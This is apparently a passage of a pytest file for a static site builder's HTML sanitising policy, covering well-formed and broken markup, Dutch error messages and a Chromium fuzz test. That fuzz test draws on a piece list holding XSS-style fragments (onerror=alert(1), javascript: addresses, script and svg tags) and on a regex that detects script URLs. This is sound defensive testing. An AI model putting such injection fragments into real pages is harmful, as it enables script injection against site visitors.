POLICY = Policy.of("https://lsh.amsterdam", [VIDEO_HOST])


def converted(text: str) -> str:
    """``text`` as the build's Markdown converts it."""
    import markdown as python_markdown

    from site_builder.render.markup import markdown_extensions

    return python_markdown.Markdown(extensions=markdown_extensions(), output_format="html").convert(text)


WELL_FORMED = {
    "list items without end tags": "<ul><li>a<li>b</ul>\n",
    "nested lists without end tags": "<ul><li>a<ul><li>b<li>c</ul><li>d</ul>\n",
    "list items holding paragraphs": "<ol><li><p>a<li><p>b</ol>\n",
    "a table without the end tags HTML lets out": (
        '<table>\n<caption>Figures\n<colgroup><col><col span="2">\n<thead><tr><th>a<th>b<th>c\n'
        "<tbody><tr><td>1<td>2<td>3\n<tr><td><p>4<td>5<td>6\n<tfoot><tr><td>7<td>8<td>9\n</table>\n"
    ),
    "rows straight in a table, cells without end tags": "<table>\n<tr><th>Name<th>Value\n<tr><td>a<td>1\n</table>\n",
    "a definition list": "<dl><dt>EMA<dd>European Medicines Agency<dt>LSH<dd>Life Sciences<dd>Health</dl>\n",
    "paragraphs ended by the next, or by their parent's end": "<p>One\n<p>Two\n<div><p>Three</div>\n",
    "a paragraph ended by a list": "<p>Intro<ul><li>a</ul>\n",
    "ruby": "<ruby>漢<rp>(<rt>kan<rp>)</ruby>\n",
    "elements without end tags, with and without />": (
        'Line<br>next<br/>then<wbr>end.\n\n<hr>\n\n<hr/>\n\n<img src="/a.png" alt="A" width="8" height="8"/>\n'
    ),
    "media with their sources": (
        '<picture><source srcset="/a.webp" type="image/webp"><img src="/a.png" alt="A" width="8" height="8">'
        '</picture>\n\n<video controls>\n<source src="/a.mp4" type="video/mp4">\n'
        '<track src="/a.vtt" kind="captions" srclang="en">\n</video>\n'
    ),
    "details": "<details><summary>More</summary>\n\nHidden *text*.\n\n</details>\n",
    "details with Markdown in it": (
        '<details markdown="1"><summary>More</summary>\n\nHidden *text*.\n\n- a\n- b\n\n</details>\n'
    ),
    "a div with Markdown in it": '<div class="note" markdown="1">\n\nText with *emphasis*.\n\nMore.\n\n</div>\n',
    "inline HTML in Markdown's paragraphs, list items, headings and quotes": (
        'The <abbr title="European Medicines Agency">EMA</abbr> and <span class="y">**z**</span>.\n\n'
        "- an <em>item</em> with <kbd>Ctrl</kbd>\n\n# A <small>heading</small>\n\n> A <q>quote</q>.\n"
    ),
    "an end tag in a comment": "<div>\n<!-- </div> -->\n</div>\n",
}


@pytest.mark.parametrize("case", list(WELL_FORMED))
def test_what_html_allows_passes_as_markdown_converts_it(case):
    text = WELL_FORMED[case]
    assert violations(converted(text), POLICY, text) == []


def structure_message(what: str) -> str:
    return f"raw HTML that breaks the page's structure ('{what}') in the content"


BROKEN = [
    ("<h2>Title<h3>Sub</h3></h2>", "<h2>", close_hint("h2")),
    ("<p><span>a<div>b</div></span></p>", "<div>", paragraph_hint("div")),
    ("<p>a<div>b</div></p>", "<div>", paragraph_hint("div")),
    ("<ul><li><div>a<li>b</ul>", "<div>", close_hint("div")),
    ("<ul><li><span>a<li>b</ul>", "<span>", close_hint("span")),
    ("<dl><dt>a<dd><b>b<dt>c</dl>", "<b>", close_hint("b")),
    ("<table><thead><tr><th>a</table>", "<thead>", close_hint("thead")),
    ("<table><tr><td><div>a<td>b</table>", "<div>", close_hint("div")),
    ("<table><tr><span>a</span></tr></table>", "<span>", IN_CELL),
    ("<table><td>a</table>", "<td>", TABLE_PARTS),
    (
        '<img src="/a.png" alt="A" width="8" height="8"></img>',
        "</img>",
        "<img> has no end tag: delete </img>",
    ),
    ('<a href="/x"><p>a</a>', "<p>", close_hint("p")),
    ("<b>bold", "<b>", close_hint("b")),
    ("<div><em>a</div></em>", "<em>", close_hint("em")),
    ("</p>", "</p>", stray_hint("p")),
    ("<span/>a", "<span/>", "in HTML, <span/> does not close the element: write <span></span>"),
    ("</div></div></main>", "</div>", stray_hint("div")),  # the first problem alone: the rest is a guess
]


@pytest.mark.parametrize(("html", "what", "hint"), BROKEN)
def test_broken_structure_is_refused_naming_the_tag(html, what, hint):
    assert [(v.message, v.hint) for v in violations(html, POLICY)] == [(structure_message(what), hint)]


def test_refused_elements_and_unfinished_tags_are_not_named_twice():
    assert [v.kind for v in violations("<marquee>Sale!", POLICY)] == [NOT_ALLOWED]
    assert [v.kind for v in violations("<svg><g><path d=M0></svg>", POLICY)] == [NOT_ALLOWED]
    assert [v.kind for v in violations("<div>\n<img src=/a.png alt=A", POLICY)] == [UNFINISHED]


def test_a_structure_problem_reads_in_dutch_too():
    from site_builder.errors import SiteError
    from site_builder.messages import load_catalogue

    (found,) = violations("<div><span>a</div>", POLICY)
    error = SiteError(found.message_text, "content/nl/x.md", 3, found.hint_message)
    assert format_error(error, load_catalogue("nl")) == (
        "content/nl/x.md:3: HTML in de inhoud die de opbouw van de pagina breekt ('<span>') "
        "(tip: sluit elk element dat je opent, in de volgorde waarin je het opende: <span> … </span>)"
    )


def test_an_unclosed_div_stops_the_build_at_its_line_until_it_is_closed(mini_built):
    root, before = mini_built
    page = "---\ntitle: X\n---\nIntro.\n\n" + '<div class="note">\n\nText in a note.\n'
    write_tree(root, {"content/en/x.md": page})
    result = run_process("-C", root, "build", cwd=root)
    expected = (
        "content/en/x.md:6: raw HTML that breaks the page's structure ('<div class=\"note\">') in the content "
        "(hint: close each element you open, in the order you opened it: <div> … </div>)"
    )
    assert_failed_cleanly(root, before, result, [expected])
    write_tree(root, {"content/en/x.md": page + "\n</div>\n"})
    result = run_process("-C", root, "build", cwd=root)
    assert result.returncode == 0 and "raw HTML" not in result.stderr
    assert "<div class=note>Text in a note.</div>" in (root / "build/en/x/index.html").read_text("utf-8")


NOTE = '<div class="note" markdown="1">\n\nText in a *note*.\n'
NESTED = '<div markdown="1">\n<section markdown="1">\n\nText in a *note*.\n'
SECOND = '<div markdown="1">\n\nText in a *note*.\n\n</div>\n\n<div markdown="1">\n\nAnother.\n'


@pytest.mark.parametrize(
    ("body", "end", "line", "tag", "name"),
    [
        # Python-Markdown ends an element read as Markdown itself where the text ends, or where an
        # element around it ends; a browser would leave the rest of the page inside it.
        (NOTE, "", 6, '<div class="note" markdown="1">', "div"),
        (NESTED, "\n</div>\n", 7, '<section markdown="1">', "section"),
        (SECOND, "", 12, '<div markdown="1">', "div"),
    ],
)
def test_an_unclosed_block_of_markdown_stops_the_build_at_its_line_until_it_is_closed(
    mini_built, body, end, line, tag, name
):
    root, before = mini_built
    page = "---\ntitle: X\n---\nIntro.\n\n" + body
    write_tree(root, {"content/en/x.md": page + end})
    result = run_process("-C", root, "build", cwd=root)
    expected = (
        f"content/en/x.md:{line}: raw HTML that breaks the page's structure ('{tag}') in the content "
        f"(hint: close each element you open, in the order you opened it: <{name}> … </{name}>)"
    )
    assert_failed_cleanly(root, before, result, [expected])
    write_tree(root, {"content/en/x.md": page + f"\n</{name}>\n" + end})
    result = run_process("-C", root, "build", cwd=root)
    assert result.returncode == 0 and "raw HTML" not in result.stderr
    assert "Text in a <em>note</em>" in (root / "build/en/x/index.html").read_text("utf-8")


# Markdown around raw HTML that is itself well formed. A lone * or _ is left out: Markdown may
# pair it with one inside the HTML, and its emphasis then crosses the HTML's elements, which
# is broken indeed.
WELL_FORMED_PIECES = [
    "a", " ", "\n", "\n\n", "**b**", "`", "```\n", "- ", "1. ", "# ", "> ", "| a |\n| --- |\n| b |\n",
    "[x](/en/)", "Term\n: Def\n", "[^1]", "\n\n[^1]: note\n\n", "\n*[EMA]: European Medicines Agency\n",
    "EMA", "{: .c}", "  \n", "\\", "&amp;", "    ", "\t",
    "<span>x</span>", '<abbr title="t">y</abbr>', "<br>", "<br/>", '<img src="/a.png" alt="A" width="8" height="8">',
    '<a href="/x">l</a>', "<kbd>k</kbd>", "<wbr>", '<span class="c">*x*</span>',
    "\n\n<div>\n\nText\n\n</div>\n\n", '\n\n<div markdown="1">\n\n*x* y\n\n- a\n- b\n\n</div>\n\n',
    "\n\n<details><summary>More</summary>\n\nHidden\n\n</details>\n\n",
    '\n\n<details markdown="1"><summary>More</summary>\n\n*Hidden*\n\n</details>\n\n',
    "\n\n<table>\n<tr><th>a<th>b\n<tr><td>1<td>2\n</table>\n\n", "\n\n<ul><li>a<li>b</ul>\n\n",
    "\n\n<p>One\n<p>Two\n\n", "\n\n<dl><dt>a<dd>b</dl>\n\n", "\n\n<hr>\n\n",
    '\n\n<section markdown="1">\n# T\n\n1. a\n2. b\n</section>\n\n',
]  # fmt: skip


@settings(
    max_examples=int(os.environ.get("HYPOTHESIS_EXAMPLES", "100")) * 3,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(st.lists(st.sampled_from(WELL_FORMED_PIECES), max_size=25).map("".join))
def test_markdown_around_well_formed_html_keeps_its_structure(text):
    """Python-Markdown's own markup around the editor's is never taken for broken structure."""
    assert [v.what for v in violations(converted(text), POLICY, text) if v.kind == STRUCTURE] == []


# --- what a browser makes of what passes ---------------------------------------------------------

BROWSER_PIECES = [
    "<p>", "</p>", '<a href="/x">', "</a>", "<img src=/a.png alt=x>", '<b title="', "<i title='", "<!-- c -->",
    "<table><tr><td>", "</td></tr></table>", f'<iframe src="https://{VIDEO_HOST}/x"></iframe>', "&quot;",
    "<", ">", "</", "/>", "<!", "<!--", "-->", "--!>", "<![", "]]>", "<?", "<![CDATA[", "<p", "<a", "<img",
    "<div", "<td", f"<iframe src=https://{VIDEO_HOST}/x", "</iframe>", "<svg", "<math", "<style", "<script",
    "<noscript", "<textarea", "<title", "<select", "<template", "</p", "</a", " ", "=", '"', "'", "x",
    "onerror=alert(1)", "onclick", "href=", "src=", "javascript:x", "title=", "&", "&lt;", "&#", "\n", "\t",
    "\x0b", "\x0c", "/", "-", "\u00a0", "class=", "<details", "<figure", "<b", "</b",
]  # fmt: skip

# In the browser: parse each text inside a page, as the templates place it, and say what in the
# result the policy would not allow, or that the page's own markup after the text is lost.
IN_THE_BROWSER = r"""
const [texts, elements, global, host] = arguments;
const refused = [];
for (const text of texts) {
  const page = '<!doctype html><body><main>' + text + '\n</main><footer id="after"><a href="/en/">x</a></footer>';
  const doc = new DOMParser().parseFromString(page, 'text/html');
  let why = doc.getElementById('after') ? null : 'the markup after it is lost';
  for (const el of doc.body.querySelectorAll('*')) {
    if (why) break;
    const tag = el.localName;
    if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml' || !(tag in elements)) { why = '<' + tag; break; }
    for (const {name, value} of el.attributes) {
      const address = value.replace(/^[\x00-\x20]+|[\x00-\x20]+$/g, '').replace(/[\t\n\r]/g, '');
      if (!(name in elements[tag]) && !global.includes(name) && !/^aria-[a-z]+$/.test(name)) why = name;
      else if (/^(javascript|vbscript|data):/i.test(address)) why = name + '=' + value;
      else if (tag === 'iframe' && name === 'src' && new URL(address, location.href).host !== host) why = value;
      if (why) break;
    }
  }
  if (why) refused.push([text, why]);
}
return refused;
"""


def test_what_passes_reads_the_same_in_a_browser(browser):
    """Texts the policy passes, as Chromium reads them inside a page: only allowed elements and
    attributes, no script addresses, iframes from the listed host only, and the page's own
    markup after the text intact. The texts are pieces joined at random (the same every run)."""
    import random

    from site_builder.checks.html_policy import ELEMENTS, GLOBAL_ATTRIBUTES

    policy = Policy.of("https://lsh.amsterdam", [VIDEO_HOST])
    chance = random.Random(20261206)
    passed: dict[str, None] = {}
    while len(passed) < 3000:
        text = "".join(chance.choice(BROWSER_PIECES) for _ in range(chance.randint(2, 14)))
        if not violations(text, policy):
            passed[text] = None
    elements = {"main": {}, "footer": {}} | {tag: dict.fromkeys(names) for tag, names in ELEMENTS.items()}
    browser.get("about:blank")
    refused = browser.execute_script(
        IN_THE_BROWSER, list(passed), elements, list(GLOBAL_ATTRIBUTES), VIDEO_HOST
    )
    assert refused == []
